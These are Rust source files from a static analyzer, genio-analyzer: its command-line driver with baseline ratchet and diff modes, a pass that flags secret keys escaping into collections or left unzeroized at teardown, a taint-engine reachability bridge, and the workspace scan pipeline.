/// list as order-insensitive multisets of line-free keys. Exact: every
/// missing and every unexpected finding is reported.
fn check_expected(report: &Report, path: &std::path::Path) -> Result<ExitCode, String> {
    let text = std::fs::read_to_string(path)
        .map_err(|e| format!("cannot read {}: {e}", path.display()))?;
    let mut want: Vec<Key> = Vec::new();
    for (no, line) in text.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let parts: Vec<&str> = line.splitn(4, '|').collect();
        let [rule_id, file, function, detail] = parts[..] else {
            return Err(format!("{}:{}: malformed line", path.display(), no + 1));
        };
        let rule = Rule::from_id(rule_id)
            .ok_or_else(|| format!("{}:{}: unknown rule", path.display(), no + 1))?;
        want.push(Key {
            rule,
            file: file.to_string(),
            function: function.to_string(),
            detail: detail.to_string(),
        });
    }
    let mut got: Vec<Key> = report.findings.iter().map(Key::of).collect();
    want.sort();
    got.sort();
    if want == got {
        println!("expectations OK: {} finding(s) match {}", got.len(), path.display());
        return Ok(ExitCode::SUCCESS);
    }
    let fmt = |k: &Key| format!("{}|{}|{}|{}", k.rule.id(), k.file, k.function, k.detail);
    for k in want.iter().filter(|k| !got.contains(k)) {
        eprintln!("  missing:    {}", fmt(k));
    }
    for k in got.iter().filter(|k| !want.contains(k)) {
        eprintln!("  unexpected: {}", fmt(k));
    }
    eprintln!(
        "expectations FAILED: scan produced {} finding(s), {} lists {}",
        got.len(),
        path.display(),
        want.len()
    );
    Ok(ExitCode::FAILURE)
}

/// Review mode: report only the findings introduced vs `git_ref`.
/// Exit 0 when the change introduces nothing, 1 otherwise.
fn diff_mode(
    root: &std::path::Path,
    scan_opts: &ScanOptions,
    git_ref: &str,
    opts: &Options,
) -> ExitCode {
    let changed = match diff::git_changed_files(root, git_ref) {
        Ok(c) => c,
        Err(e) => {
            eprintln!("genio-analyzer: --diff {git_ref}: {e}");
            return ExitCode::from(2);
        }
    };
    let d = match diff::diff_scan(root, scan_opts, git_ref, &changed) {
        Ok(d) => d,
        Err(e) => {
            eprintln!("genio-analyzer: diff scan failed: {e}");
            return ExitCode::from(2);
        }
    };
    println!(
        "genio-analyzer: diff vs {}: {} changed file(s), {} introduced finding(s)",
        d.base_ref,
        d.changed_files.len(),
        d.findings.len()
    );
    println!(
        "  workers: {} | cache: {} hit(s), {} miss(es) ({} dep-invalidated)",
        d.stats.threads, d.stats.cache_hits, d.stats.cache_misses, d.stats.dep_invalidated
    );
    for f in &d.findings {
        println!(
            "  [{}] {}:{} ({}) {}",
            f.rule.id(),
            f.file,
            f.line,
            f.function,
            f.detail
        );
    }
    if let Some(path) = &opts.json {
        if let Err(e) = std::fs::write(path, d.to_json().to_string()) {
            eprintln!("genio-analyzer: cannot write {}: {e}", path.display());
            return ExitCode::from(2);
        }
        println!("wrote diff report to {}", path.display());
    }
    if let Some(path) = &opts.sarif {
        // In diff mode the SARIF export carries the *introduced* set —
        // exactly what a review UI should annotate on the change.
        let export = Report {
            files: d.changed_files.len() as u64,
            findings: d.findings.clone(),
            ..Report::default()
        };
        if let Err(e) = std::fs::write(path, diff::to_sarif(&export).to_string()) {
            eprintln!("genio-analyzer: cannot write {}: {e}", path.display());
            return ExitCode::from(2);
        }
        println!("wrote SARIF export to {}", path.display());
    }
    if d.findings.is_empty() {
        println!("diff OK: change introduces no findings");
        ExitCode::SUCCESS
    } else {
        eprintln!("diff FAILED: fix the introduced sites above");
        ExitCode::FAILURE
    }
}

fn main() -> ExitCode {
    let opts = match parse_args() {
        Ok(o) => o,
        Err(code) => return code,
    };

    let root = match opts.root.clone().or_else(|| {
        std::env::current_dir()
            .ok()
            .and_then(|d| workspace::find_root(&d))
    }) {
        Some(r) => r,
        None => {
            eprintln!("genio-analyzer: no workspace root found (use --root)");
            return ExitCode::from(2);
        }
    };

    let cache_path = if opts.no_cache {
        None
    } else {
        Some(opts.cache.clone().unwrap_or_else(|| {
            root.join("target").join("genio-analyzer").join("cache.json")
        }))
    };
    let telemetry = Telemetry::enabled();
    let scan_opts = ScanOptions {
        threads: opts.threads,
        cache_path,
        telemetry: telemetry.clone(),
        rules: opts.rules.clone(),
    };

    if let Some(git_ref) = &opts.diff {
        return diff_mode(&root, &scan_opts, git_ref, &opts);
    }

    let (report, stats) = match workspace::scan_with(&root, &scan_opts) {
        Ok(r) => r,
        Err(e) => {
            eprintln!("genio-analyzer: scan failed: {e}");
            return ExitCode::from(2);
        }
    };

    println!(
        "genio-analyzer: scanned {} files / {} lines under {}",
        report.files,
        report.lines,
        root.display()
    );
    println!(
        "  workers: {} | cache: {} hit(s), {} miss(es) | suppressed by dataflow: {} | allowed by annotation: {}",
        stats.threads,
        stats.cache_hits,
        stats.cache_misses,
        report.suppressed,
        report.allowed
    );
    let snapshot = telemetry.snapshot();
    for stage in [
        "analyzer.files",
        "analyzer.dataflow",
        "analyzer.sidechannel",
        "analyzer.concurrency",
        "analyzer.panicfree",
        "analyzer.lifecycle",
        "analyzer.scan",
    ] {
        if let Some(h) = snapshot.histogram(&format!("{stage}_ns")) {
            println!("  {:<18} {:>9.3} ms", stage, h.sum as f64 / 1e6);
        }
    }
    for (rule, count) in report.rule_counts() {
        println!("  {}  {:<55} {:>4}", rule.id(), rule.title(), count);
    }
    println!("  total findings: {}", report.findings.len());

    if opts.list_findings {
        for f in &report.findings {
            println!(
                "  [{}] {}:{} ({}) {}",
                f.rule.id(),
                f.file,
                f.line,
                f.function,
                f.detail
            );
        }
    }

    if let Some(path) = &opts.json {
        if let Err(e) = std::fs::write(path, report.to_json().to_string()) {
            eprintln!("genio-analyzer: cannot write {}: {e}", path.display());
            return ExitCode::from(2);
        }
        println!("wrote report to {}", path.display());
    }

    if let Some(path) = &opts.sarif {
        if let Err(e) = std::fs::write(path, diff::to_sarif(&report).to_string()) {
            eprintln!("genio-analyzer: cannot write {}: {e}", path.display());
            return ExitCode::from(2);
        }
        println!("wrote SARIF export to {}", path.display());
    }

    if let Some(path) = &opts.expect {
        return match check_expected(&report, path) {
            Ok(code) => code,
            Err(e) => {
                eprintln!("genio-analyzer: {e}");
                ExitCode::from(2)
            }
        };
    }

    let baseline_path = opts
        .baseline
        .unwrap_or_else(|| root.join("analyzer-baseline.json"));

    if opts.write_baseline {
        return match std::fs::write(&baseline_path, report.to_json().to_string()) {
            Ok(()) => {
                println!(
                    "wrote baseline ({} findings) to {}",
                    report.findings.len(),
                    baseline_path.display()
                );
                ExitCode::SUCCESS
            }
            Err(e) => {
                eprintln!(
                    "genio-analyzer: cannot write {}: {e}",
                    baseline_path.display()
                );
                ExitCode::from(2)
            }
        };
    }

    let baseline_text = match std::fs::read_to_string(&baseline_path) {
        Ok(t) => t,
        Err(e) => {
            eprintln!(
                "genio-analyzer: no baseline at {} ({e}); run with --write-baseline first",
                baseline_path.display()
            );
            return ExitCode::from(2);
        }
    };
    let baseline = match Report::from_json_text(&baseline_text) {
        Ok(b) => b,
        Err(e) => {
            eprintln!(
                "genio-analyzer: malformed baseline {}: {e}",
                baseline_path.display()
            );
            return ExitCode::from(2);
        }
    };

    let d = ratchet_diff(&report.findings, &baseline.findings);
    if !d.fixed.is_empty() {
        let gone: usize = d.fixed.iter().map(|(_, n)| n).sum();
        println!(
            "ratchet: {gone} baseline finding(s) fixed — run --write-baseline to shrink the baseline"
        );
    }
    if d.passes() {
        println!(
            "ratchet OK: no findings beyond the {}-finding baseline",
            baseline.findings.len()
        );
        ExitCode::SUCCESS
    } else {
        eprintln!("ratchet FAILED: {} new finding(s) vs baseline:", d.new.len());
        for f in &d.new {
            eprintln!(
                "  [{}] {}:{} ({}) {}",
                f.rule.id(),
                f.file,
                f.line,
                f.function,
                f.detail
            );
        }
        eprintln!("fix the sites or, for accepted debt, refresh with --write-baseline");
        ExitCode::FAILURE
    }
}
