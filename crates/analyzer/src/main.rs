//! `genio-analyzer` CLI: self-scan the workspace, diff against the
//! committed ratchet baseline, fail on new findings.
//!
//! ```text
//! genio-analyzer [--root DIR] [--baseline FILE] [--json FILE]
//!                [--write-baseline] [--findings]
//!                [--threads N] [--cache FILE] [--no-cache]
//! ```
//!
//! Exit codes: `0` clean (or baseline written), `1` new findings vs the
//! baseline, `2` usage or I/O error. `scripts/verify.sh` runs this
//! before the benches; `--write-baseline` is how the committed
//! `analyzer-baseline.json` shrinks after fixing sites.
//!
//! The incremental cache defaults to
//! `<root>/target/genio-analyzer/cache.json`; `--no-cache` forces a
//! full rescan. Cache traffic and per-stage timings are printed to
//! stdout but never written into the report, so cached and uncached
//! runs emit byte-identical JSON.

#![forbid(unsafe_code)]

use std::path::PathBuf;
use std::process::ExitCode;

use genio_analyzer::baseline::{diff, Report};
use genio_analyzer::workspace::{self, ScanOptions};
use genio_telemetry::Telemetry;

struct Options {
    root: Option<PathBuf>,
    baseline: Option<PathBuf>,
    json: Option<PathBuf>,
    write_baseline: bool,
    list_findings: bool,
    threads: usize,
    cache: Option<PathBuf>,
    no_cache: bool,
}

fn usage() -> ExitCode {
    eprintln!(
        "usage: genio-analyzer [--root DIR] [--baseline FILE] [--json FILE] \
         [--write-baseline] [--findings] [--threads N] [--cache FILE] [--no-cache]"
    );
    ExitCode::from(2)
}

fn parse_args() -> Result<Options, ExitCode> {
    let mut opts = Options {
        root: None,
        baseline: None,
        json: None,
        write_baseline: false,
        list_findings: false,
        threads: 0,
        cache: None,
        no_cache: false,
    };
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--root" => opts.root = args.next().map(PathBuf::from),
            "--baseline" => opts.baseline = args.next().map(PathBuf::from),
            "--json" => opts.json = args.next().map(PathBuf::from),
            "--write-baseline" => opts.write_baseline = true,
            "--findings" => opts.list_findings = true,
            "--threads" => {
                opts.threads = match args.next().and_then(|n| n.parse().ok()) {
                    Some(n) => n,
                    None => return Err(usage()),
                }
            }
            "--cache" => opts.cache = args.next().map(PathBuf::from),
            "--no-cache" => opts.no_cache = true,
            _ => return Err(usage()),
        }
    }
    Ok(opts)
}

fn main() -> ExitCode {
    let opts = match parse_args() {
        Ok(o) => o,
        Err(code) => return code,
    };

    let root = match opts.root.or_else(|| {
        std::env::current_dir()
            .ok()
            .and_then(|d| workspace::find_root(&d))
    }) {
        Some(r) => r,
        None => {
            eprintln!("genio-analyzer: no workspace root found (use --root)");
            return ExitCode::from(2);
        }
    };

    let cache_path = if opts.no_cache {
        None
    } else {
        Some(opts.cache.unwrap_or_else(|| {
            root.join("target").join("genio-analyzer").join("cache.json")
        }))
    };
    let telemetry = Telemetry::enabled();
    let scan_opts = ScanOptions {
        threads: opts.threads,
        cache_path,
        telemetry: telemetry.clone(),
    };

    let (report, stats) = match workspace::scan_with(&root, &scan_opts) {
        Ok(r) => r,
        Err(e) => {
            eprintln!("genio-analyzer: scan failed: {e}");
            return ExitCode::from(2);
        }
    };

    println!(
        "genio-analyzer: scanned {} files / {} lines under {}",
        report.files,
        report.lines,
        root.display()
    );
    println!(
        "  workers: {} | cache: {} hit(s), {} miss(es) | suppressed by dataflow: {}",
        stats.threads, stats.cache_hits, stats.cache_misses, report.suppressed
    );
    let snapshot = telemetry.snapshot();
    for stage in ["analyzer.files", "analyzer.dataflow", "analyzer.scan"] {
        if let Some(h) = snapshot.histogram(&format!("{stage}_ns")) {
            println!("  {:<18} {:>9.3} ms", stage, h.sum as f64 / 1e6);
        }
    }
    for (rule, count) in report.rule_counts() {
        println!("  {}  {:<55} {:>4}", rule.id(), rule.title(), count);
    }
    println!("  total findings: {}", report.findings.len());

    if opts.list_findings {
        for f in &report.findings {
            println!(
                "  [{}] {}:{} ({}) {}",
                f.rule.id(),
                f.file,
                f.line,
                f.function,
                f.detail
            );
        }
    }

    if let Some(path) = &opts.json {
        if let Err(e) = std::fs::write(path, report.to_json().to_string()) {
            eprintln!("genio-analyzer: cannot write {}: {e}", path.display());
            return ExitCode::from(2);
        }
        println!("wrote report to {}", path.display());
    }

    let baseline_path = opts
        .baseline
        .unwrap_or_else(|| root.join("analyzer-baseline.json"));

    if opts.write_baseline {
        return match std::fs::write(&baseline_path, report.to_json().to_string()) {
            Ok(()) => {
                println!(
                    "wrote baseline ({} findings) to {}",
                    report.findings.len(),
                    baseline_path.display()
                );
                ExitCode::SUCCESS
            }
            Err(e) => {
                eprintln!(
                    "genio-analyzer: cannot write {}: {e}",
                    baseline_path.display()
                );
                ExitCode::from(2)
            }
        };
    }

    let baseline_text = match std::fs::read_to_string(&baseline_path) {
        Ok(t) => t,
        Err(e) => {
            eprintln!(
                "genio-analyzer: no baseline at {} ({e}); run with --write-baseline first",
                baseline_path.display()
            );
            return ExitCode::from(2);
        }
    };
    let baseline = match Report::from_json_text(&baseline_text) {
        Ok(b) => b,
        Err(e) => {
            eprintln!(
                "genio-analyzer: malformed baseline {}: {e}",
                baseline_path.display()
            );
            return ExitCode::from(2);
        }
    };

    let d = diff(&report.findings, &baseline.findings);
    if !d.fixed.is_empty() {
        let gone: usize = d.fixed.iter().map(|(_, n)| n).sum();
        println!(
            "ratchet: {gone} baseline finding(s) fixed — run --write-baseline to shrink the baseline"
        );
    }
    if d.passes() {
        println!(
            "ratchet OK: no findings beyond the {}-finding baseline",
            baseline.findings.len()
        );
        ExitCode::SUCCESS
    } else {
        eprintln!("ratchet FAILED: {} new finding(s) vs baseline:", d.new.len());
        for f in &d.new {
            eprintln!(
                "  [{}] {}:{} ({}) {}",
                f.rule.id(),
                f.file,
                f.line,
                f.function,
                f.detail
            );
        }
        eprintln!("fix the sites or, for accepted debt, refresh with --write-baseline");
        ExitCode::FAILURE
    }
}
