//! R17 — secret-lifecycle tracking over the R8 type registry.
//!
//! Bi et al.'s edge-platform study finds key-material lifecycle misuse
//! (keys outliving their session, key bytes never scrubbed) a dominant
//! real-world risk. This pass checks two lifecycle invariants for every
//! secret-typed value ([`crate::dataflow::source_vars`] — the same
//! registry R8/R10–R12 taint from):
//!
//! * **collection escape** — a secret passed *bare* to
//!   `.push(..)`/`.insert(..)`/`.extend(..)` leaves its owning scope
//!   for a long-lived collection, defeating scoped zeroization and
//!   stretching the secret's memory-residency window;
//! * **missing zeroize in teardown** — a function whose name declares a
//!   teardown responsibility (`*teardown*`, `*close*`, `*rekey*`,
//!   `*destroy*`, `*retire*`, `*wipe*`, or exactly `drop`/`reset`)
//!   takes secret material and returns without scrubbing it
//!   (`.zeroize()`, or `.fill(0)` on the secret).
//!
//! Cloning a secret is *not* flagged on its own: `key.clone()` into a
//! short-lived stack value is routine in the AEAD setup path. The
//! escape check fires only when the secret itself crosses into a
//! collection.

use crate::callgraph::{CallGraph, FileFacts};
use crate::rules::{Finding, Rule};

/// Collection-mutation callees that absorb their argument.
const ESCAPE_CALLEES: &[&str] = &["push", "insert", "extend"];

/// Name fragments that declare a teardown responsibility.
const TEARDOWN_FRAGMENTS: &[&str] = &["teardown", "close", "rekey", "destroy", "retire", "wipe"];

/// Callees that count as scrubbing their receiver.
const SCRUB_CALLEES: &[&str] = &["zeroize", "fill"];

/// Does `name` declare a teardown responsibility?
fn is_teardown(name: &str) -> bool {
    name == "drop" || name == "reset" || TEARDOWN_FRAGMENTS.iter().any(|f| name.contains(f))
}

/// Runs the R17 lifecycle pass over the summarised workspace.
pub fn run(files: &[FileFacts]) -> Vec<Finding> {
    let graph = CallGraph::build(files);
    let secret_types = crate::dataflow::secret_type_names(&graph);

    let mut findings = Vec::new();
    for file in files {
        for fun in &file.summary.functions {
            let sources = crate::dataflow::source_vars(&graph, file, fun, &secret_types);
            if sources.is_empty() {
                continue;
            }

            // Receivers that *are* the secret (a direct secret-typed
            // value or a secret-named byte buffer) as opposed to a
            // container-of-secrets: `key.extend(..)` mutates the
            // secret in place, `cache.push(key)` copies it out into
            // long-lived storage.
            let direct_secret = |name: &str| {
                let ty = fun
                    .params
                    .iter()
                    .chain(fun.local_types.iter())
                    .find(|(n, _)| n == name)
                    .map(|(_, t)| t.as_str());
                match ty {
                    Some(t) if t.contains("u8") => {
                        crate::rules::has_secret_segment(name)
                    }
                    Some(t) => {
                        !t.contains('<')
                            && !t.contains('[')
                            && crate::dataflow::type_mentions_secret(t, &secret_types)
                    }
                    None => false,
                }
            };

            // (a) collection escape: a bare secret identifier argument
            // to push/insert/extend on some receiver.
            for call in &fun.calls {
                if !ESCAPE_CALLEES.contains(&call.callee.as_str()) {
                    continue;
                }
                let Some(recv) = &call.recv else { continue };
                if direct_secret(recv) {
                    continue;
                }
                for arg in &call.args {
                    let Some(ident) = &arg.ident else { continue };
                    if sources.contains(ident) {
                        findings.push(Finding {
                            rule: Rule::R17SecretLifecycle,
                            file: file.rel_path.clone(),
                            line: call.line,
                            function: fun.name.clone(),
                            detail: format!(
                                "secret `{ident}` escapes into collection via `{recv}.{}(..)`",
                                call.callee
                            ),
                            confirmed: Some(true),
                        });
                    }
                }
            }

            // (b) teardown without scrub: secret *parameters* must be
            // zeroized before the teardown returns. Locals are skipped
            // — a teardown may legitimately read a key to derive its
            // close message; it is the caller-owned material passed in
            // for disposal that must be scrubbed.
            if !is_teardown(&fun.name) {
                continue;
            }
            for (param, ty) in &fun.params {
                if !sources.contains(param) {
                    continue;
                }
                // Only owned/mutable secrets can be scrubbed; a shared
                // borrow (`&SessionKey`) is the owner's responsibility.
                if ty.starts_with('&') && !ty.starts_with("&mut") {
                    continue;
                }
                let scrubbed = fun.calls.iter().any(|c| {
                    SCRUB_CALLEES.contains(&c.callee.as_str())
                        && c.recv.as_deref() == Some(param.as_str())
                });
                if !scrubbed {
                    findings.push(Finding {
                        rule: Rule::R17SecretLifecycle,
                        file: file.rel_path.clone(),
                        line: fun.line,
                        function: fun.name.clone(),
                        detail: format!(
                            "teardown drops secret `{param}` without zeroize/fill(0)"
                        ),
                        confirmed: Some(true),
                    });
                }
            }
        }
    }
    findings
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::tokenize;
    use crate::rules::annotate;

    fn facts(crate_name: &str, rel_path: &str, src: &str) -> FileFacts {
        let ann = annotate(tokenize(src));
        FileFacts {
            crate_name: crate_name.to_string(),
            rel_path: rel_path.to_string(),
            summary: crate::summary::summarize(&ann),
            findings: Vec::new(),
            accesses: Vec::new(),
        }
    }

    const REGISTRY: &str = "pub struct SessionKey([u8; 32]);";

    #[test]
    fn secret_push_into_collection_is_flagged() {
        let files = vec![facts(
            "netsec",
            "crates/netsec/src/s.rs",
            &format!(
                "{REGISTRY}\n\
                 fn retain(cache: &mut Vec<SessionKey>, key: SessionKey) {{ cache.push(key); }}"
            ),
        )];
        let f = run(&files);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule, Rule::R17SecretLifecycle);
        assert!(f[0].detail.contains("`cache`.push") || f[0].detail.contains("cache.push"));
        assert_eq!(f[0].confirmed, Some(true));
    }

    #[test]
    fn pushing_public_material_is_silent() {
        let files = vec![facts(
            "netsec",
            "crates/netsec/src/s.rs",
            &format!(
                "{REGISTRY}\n\
                 fn retain(cache: &mut Vec<u64>, count: u64) {{ cache.push(count); }}"
            ),
        )];
        assert!(run(&files).is_empty());
    }

    #[test]
    fn extend_onto_the_secret_itself_is_not_an_escape() {
        let files = vec![facts(
            "crypto",
            "crates/crypto/src/s.rs",
            &format!(
                "{REGISTRY}\n\
                 fn pad(key: &mut Vec<u8>, extra: SessionKey) {{ key.extend(extra); }}"
            ),
        )];
        // `key` is secret-named in a secret crate; extending the secret
        // itself is mutation, not escape. `extra` into `key` IS an
        // escape — but the receiver is itself secret, so it stays in
        // secret-tracked storage.
        assert!(run(&files).is_empty());
    }

    #[test]
    fn teardown_without_scrub_is_flagged() {
        let files = vec![facts(
            "netsec",
            "crates/netsec/src/s.rs",
            &format!(
                "{REGISTRY}\n\
                 fn close_session(key: SessionKey) {{ log_close(); }}\n\
                 fn log_close() {{}}"
            ),
        )];
        let f = run(&files);
        assert_eq!(f.len(), 1);
        assert!(f[0].detail.contains("without zeroize"));
        assert_eq!(f[0].function, "close_session");
    }

    #[test]
    fn teardown_with_fill_zero_is_clean() {
        let files = vec![facts(
            "netsec",
            "crates/netsec/src/s.rs",
            &format!(
                "{REGISTRY}\n\
                 fn close_session(mut key: SessionKey) {{ key.fill(0); }}"
            ),
        )];
        assert!(run(&files).is_empty());
    }

    #[test]
    fn teardown_with_zeroize_is_clean() {
        let files = vec![facts(
            "netsec",
            "crates/netsec/src/s.rs",
            &format!(
                "{REGISTRY}\n\
                 fn rekey_link(mut old: SessionKey) {{ old.zeroize(); }}"
            ),
        )];
        assert!(run(&files).is_empty());
    }

    #[test]
    fn shared_borrow_in_teardown_is_the_owners_problem() {
        let files = vec![facts(
            "netsec",
            "crates/netsec/src/s.rs",
            &format!(
                "{REGISTRY}\n\
                 fn close_session(key: &SessionKey) {{ announce(key); }}\n\
                 fn announce(_k: &SessionKey) {{}}"
            ),
        )];
        assert!(run(&files).is_empty());
    }

    #[test]
    fn non_teardown_functions_are_not_required_to_scrub() {
        let files = vec![facts(
            "netsec",
            "crates/netsec/src/s.rs",
            &format!(
                "{REGISTRY}\n\
                 fn derive(key: SessionKey) -> u8 {{ mix(key) }}\n\
                 fn mix(_k: SessionKey) -> u8 {{ 0 }}"
            ),
        )];
        assert!(run(&files).is_empty());
    }
}
