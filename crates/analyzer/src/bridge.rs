//! Reachability bridge: lowers lexically flagged parser functions into
//! the `genio_appsec::sast` mini-IR and lets its taint engine confirm
//! (or reject) each finding.
//!
//! The paper's Lesson 7 names the exact gap this closes: OSS SAST
//! output is noisy because findings are not linked to reachability.
//! Here the lexical scanner (R4 narrowing casts, R5 unguarded slice
//! indexing) proposes candidate defects, and each enclosing function is
//! lowered into the taint IR under the parser threat model — *frame and
//! feed bytes are attacker-controlled* — so a second, independent
//! engine decides whether untrusted input actually reaches the flagged
//! operation:
//!
//! * the function's input becomes a [`Stmt::TaintSource`] (`frame-bytes`),
//! * the flagged variable is an assignment fed by that input,
//! * a lexically detected bounds guard lowers to a [`Stmt::Sanitize`],
//! * the flagged operation becomes a call to the `deserialize` sink.
//!
//! Running [`analyze`] then yields `unsafe-deserialization` findings
//! exactly for functions where tainted input reaches the operation
//! unsanitized. The rule engine only keeps R4/R5 findings the bridge
//! confirms; guarded accesses lower with a sanitizer and come back
//! clean, which the fixture corpus asserts in both directions.

use genio_appsec::sast::{analyze, Expr, Function, Program, Stmt};
use std::collections::BTreeSet;

use crate::rules::{Access, Finding, Rule};

/// Lowers one flagged function's accesses into a taint-IR function.
fn lower_function(name: &str, accesses: &[&Access]) -> Function {
    let mut body = vec![Stmt::TaintSource {
        var: "input".to_string(),
        source: "frame-bytes".to_string(),
    }];
    for (k, access) in accesses.iter().enumerate() {
        let var = format!("{}_{k}", access.var);
        body.push(Stmt::Assign {
            var: var.clone(),
            expr: Expr::Concat(vec![
                Expr::Literal(match access.rule {
                    Rule::R4NarrowingCast => "narrowed:".to_string(),
                    _ => "indexed:".to_string(),
                }),
                Expr::Var("input".to_string()),
            ]),
        });
        if access.guarded {
            body.push(Stmt::Sanitize { var: var.clone() });
        }
        body.push(Stmt::Call {
            function: "deserialize".to_string(),
            args: vec![Expr::Var(var)],
        });
    }
    Function { name: name.to_string(), body }
}

/// Lowers every function with recorded accesses into one IR program.
pub fn lower(accesses: &[Access]) -> Program {
    let functions: BTreeSet<&str> =
        accesses.iter().map(|a| a.function.as_str()).collect();
    Program {
        functions: functions
            .into_iter()
            .map(|f| {
                let of_fn: Vec<&Access> =
                    accesses.iter().filter(|a| a.function == f).collect();
                lower_function(f, &of_fn)
            })
            .collect(),
    }
}

/// Runs the taint engine over the lowered program and stamps each R4/R5
/// finding with the confirmation verdict. Findings the taint engine
/// cannot reach (sanitized paths) are dropped — that is the
/// reachability filter.
pub fn confirm(findings: Vec<Finding>, accesses: &[Access]) -> Vec<Finding> {
    if accesses.is_empty() {
        return findings;
    }
    let program = lower(accesses);
    let tainted_fns: BTreeSet<String> = analyze(&program)
        .into_iter()
        .filter(|f| f.rule == "unsafe-deserialization")
        .map(|f| f.function)
        .collect();
    findings
        .into_iter()
        .filter_map(|mut f| {
            if !matches!(f.rule, Rule::R4NarrowingCast | Rule::R5UnguardedIndex) {
                return Some(f);
            }
            let reachable = tainted_fns.contains(&f.function);
            f.confirmed = Some(reachable);
            reachable.then_some(f)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn access(function: &str, var: &str, guarded: bool) -> Access {
        Access {
            function: function.to_string(),
            var: var.to_string(),
            guarded,
            rule: Rule::R5UnguardedIndex,
            line: 1,
            masked: None,
            index_ident: None,
            loop_bounds: None,
        }
    }

    fn finding(function: &str) -> Finding {
        Finding {
            rule: Rule::R5UnguardedIndex,
            file: "crates/pon/src/frame.rs".to_string(),
            line: 1,
            function: function.to_string(),
            detail: "dynamic index".to_string(),
            confirmed: None,
        }
    }

    #[test]
    fn unguarded_access_is_confirmed_by_taint() {
        let accesses = vec![access("parse", "buf", false)];
        let out = confirm(vec![finding("parse")], &accesses);
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].confirmed, Some(true));
    }

    #[test]
    fn guarded_access_lowers_to_sanitized_path() {
        // A guarded access produces no lexical finding; but even if one
        // slipped through, the sanitizer in the lowering kills it.
        let accesses = vec![access("parse", "buf", true)];
        let out = confirm(vec![finding("parse")], &accesses);
        assert!(out.is_empty());
    }

    #[test]
    fn mixed_accesses_confirm_per_function() {
        let accesses = vec![
            access("parse_hot", "buf", false),
            access("parse_safe", "buf", true),
        ];
        let out = confirm(
            vec![finding("parse_hot"), finding("parse_safe")],
            &accesses,
        );
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].function, "parse_hot");
    }

    #[test]
    fn non_bridge_rules_pass_through() {
        let mut f = finding("anything");
        f.rule = Rule::R1PanicPath;
        let out = confirm(vec![f], &[access("other", "x", false)]);
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].confirmed, None);
    }
}
