//! Workspace discovery and the full multi-stage scan.
//!
//! The unit of scanning is a *workspace tree*: a directory with a
//! `crates/<name>/src/` layout (plus an optional root `src/` for the
//! facade package). The real repository and the fixture corpora under
//! `tests/` share this shape, so every test drives the exact code path
//! the verify gate runs.
//!
//! [`scan_with`] runs the v4 pipeline:
//!
//! 1. **discover** — enumerate crate src trees and their `.rs` files
//!    into a sorted, deterministic job list;
//! 2. **hash + invalidate** (main thread) — read and content-hash every
//!    file, look up the [`crate::cache`] entry, then *dependency-aware
//!    invalidation*: a changed file's cached function definitions are
//!    collected, and any cached entry whose summary calls one of those
//!    names is dropped back into the re-scan set (tracked in
//!    [`ScanStats::dep_invalidated`]) — the call-graph edge, not just
//!    the content hash, decides freshness;
//! 3. **per-file pass** (parallel) — for every miss, tokenize,
//!    annotate, rule-scan and summarize. Misses are split into
//!    contiguous chunks over `std::thread` scoped workers and the
//!    results merged back *in job order*, so the thread count can never
//!    change the report;
//! 4. **cross-file passes** (serial, always fresh) — R3 per crate, the
//!    sast bridge per file, then the interprocedural
//!    [`crate::dataflow`] walk, the [`crate::sidechannel`] pass
//!    (R10–R12), the [`crate::concurrency`] pass (R13–R14), the
//!    [`crate::panicfree`] closure (R16) and the [`crate::lifecycle`]
//!    pass (R17) over the whole workspace;
//! 5. **suppression + filter** — findings covered by a line-scoped
//!    `// genio-analyzer: allow(...)` comment are dropped (counted in
//!    the report's `allowed` field), then an optional
//!    [`ScanOptions::rules`] filter trims the report to the selected
//!    rules;
//! 6. **cache write-back** — only when at least one file missed (and
//!    never from a [`scan_with_base`] historical scan).
//!
//! [`scan_with_base`] runs the same pipeline against a *spliced* tree —
//! per-file content overrides for changed files plus synthesized jobs
//! for files that only exist at the base revision — which is how
//! [`crate::diff`] reconstructs the base report without a checkout.
//!
//! Stage timings are recorded as `genio-telemetry` spans
//! (`analyzer.scan`, `analyzer.files`, `analyzer.dataflow`,
//! `analyzer.sidechannel`, `analyzer.concurrency`,
//! `analyzer.panicfree`, `analyzer.lifecycle`) on the calling thread;
//! cache traffic lands in [`ScanStats`], *not* in the report, so cold
//! and warm scans stay byte-identical.

use std::fs;
use std::io;
use std::num::NonZeroUsize;
use std::path::{Path, PathBuf};

use genio_telemetry::Telemetry;

use crate::baseline::{sort_findings, Report};
use crate::bridge;
use crate::cache::{content_hash, Cache, FileEntry};
use crate::callgraph::FileFacts;
use crate::concurrency;
use crate::dataflow;
use crate::lexer::tokenize;
use crate::rules::{
    annotate, collect_allows, has_forbid_unsafe, scan_tokens, Allow, FileContext,
    Finding, Rule,
};
use crate::sidechannel;
use crate::summary::summarize;

/// Knobs for [`scan_with`]. `Default` is a serial, uncached, untimed
/// scan — exactly what the fixture tests want.
#[derive(Default)]
pub struct ScanOptions {
    /// Worker threads for the per-file pass; `0` means one per
    /// available CPU.
    pub threads: usize,
    /// Cache file to read and write back; `None` disables caching.
    pub cache_path: Option<PathBuf>,
    /// Telemetry handle for stage spans (disabled handles are no-ops).
    pub telemetry: Telemetry,
    /// Restrict the report to these rules (`None` keeps all). Passes
    /// whose every rule is filtered out are skipped entirely, which is
    /// what the E-A3 bench uses to price the new passes.
    pub rules: Option<Vec<Rule>>,
}

impl ScanOptions {
    fn wants(&self, rule: Rule) -> bool {
        self.rules.as_ref().map_or(true, |rs| rs.contains(&rule))
    }
}

/// Side-channel facts about a scan that must stay out of the report.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ScanStats {
    /// Files visited.
    pub files: u64,
    /// Files served from the cache.
    pub cache_hits: u64,
    /// Files re-scanned.
    pub cache_misses: u64,
    /// Cache entries dropped by dependency-aware invalidation: their
    /// content was unchanged, but they call a function defined in a
    /// changed file (counted inside `cache_misses` too).
    pub dep_invalidated: u64,
    /// Worker threads actually used.
    pub threads: usize,
}

/// Locates the enclosing workspace root by walking up from `start`
/// until a directory containing both `Cargo.toml` and `crates/` is
/// found.
